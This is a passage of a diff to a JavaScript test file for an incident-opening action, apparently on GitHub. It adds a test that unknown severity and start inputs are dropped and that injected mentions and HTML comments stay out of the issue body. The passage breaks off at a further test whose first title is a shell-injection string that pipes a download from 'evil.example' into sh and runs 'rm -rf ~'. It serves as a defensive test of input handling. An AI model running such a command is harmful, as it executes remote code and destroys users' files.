@@ -107,6 +107,23 @@ test("a severity that the ladder lacks and a time to come are refused together",
   expect(await incidents()).toEqual([]);
 });
 
+test("an alert with words that config does not know opens its incident without them", async () => {
+  const event = { name: "repository_dispatch", payload: {} };
+  const inputs = { ...declare, severity: "warning @acme/all <!--", started: "tomorrow" };
+  const { status, log, outputs } = await shop.run({ inputs, event });
+  expect(status).toBe(0);
+  expect(outputs).toMatchObject({ number: "1", joined: "false" });
+  expect(log).toMatch(/::warning::Left out, severity: got "warning/);
+  expect(log).toMatch(/::warning::Left out, started: got "tomorrow"/);
+  const { body } = await shop.mona.readsIssue(on("1"));
+  expect(body).toMatch(/^Opened without:\n- severity: got "warning .*\n- started: got "tomorrow"/m);
+  expect(body).not.toMatch(/@acme|<!--"/);
+  const [card] = await shop.mona.readsThread(on("1"));
+  expect(card?.body).toContain("🔴");
+  const dry = await shop.run({ inputs: { ...inputs, "dry-run": "true" }, event });
+  expect(dry.status).toBe(1);
+});
+
 test("a title with the syntax of shells, logs and outputs is only a title", async () => {
   const titles = [
     "$(curl evil.example | sh); `id` && rm -rf ~",
